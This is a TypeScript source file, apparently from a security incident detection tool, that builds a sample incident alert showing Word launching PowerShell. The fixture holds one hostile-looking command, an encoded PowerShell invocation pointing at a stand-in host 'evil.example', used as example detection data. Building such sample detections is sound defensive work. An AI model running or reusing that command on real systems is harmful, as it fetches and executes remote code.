import type { UnixMs } from '@haetae/event';
import { madeIncident } from '../../../../../tests/incidents.ts';
import { type Language, parseZone } from '../../locale/index.ts';
import type { IncidentDetail, Json } from '../../store/index.ts';
import type { IncidentMessage } from '../message/message.ts';
import { incidentMessage } from '../message/render.ts';

/** An incident as channels show it in their examples. */
export function sampleMessage(language: Language): IncidentMessage {
  const incident = madeIncident({
    processes: [
      { key: 'a', image: 'C:\\Program Files\\Microsoft Office\\winword.exe', time: '05:00' },
      {
        ...{ key: 'b', image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', time: '05:01' },
        ...{ parent: 'a', command: 'powershell -enc SQBFAFgA https://evil.example/a' },
      },
    ],
    findings: [
      {
        ...{ title: 'Encoded PowerShell Command', titleKo: '인코딩된 명령으로 실행한 PowerShell', level: 'high' },
        ...{ process: 'b', time: '05:01', tactics: ['execution'], techniques: ['T1059.001'] },
      },
    ],
  });
  const [firstMs, lastMs] = [incident.fromMs as UnixMs, incident.toMs as UnixMs];
  const row: IncidentDetail = {
    ...{ seq: 1, id: '62205783ab91c0de', firstMs, lastMs, risk: 72, level: 'high', title: '' },
    ...{ hosts: ['WS-014.corp.example'], users: ['CORP\\kim'], findings: 3, mergedInto: null, status: 'new' },
    ...{ assignee: null, verdict: null, listed: null, tags: [], version: 1, createdMs: firstMs, updatedMs: lastMs },
    body: incident as unknown as Json,
  };
  const telling = { language, redaction: 'full', zone: parseZone('Asia/Seoul')!, publicUrl: 'https://haetae.example' };
  return incidentMessage(row, 'new', telling as Parameters<typeof incidentMessage>[2]);
}
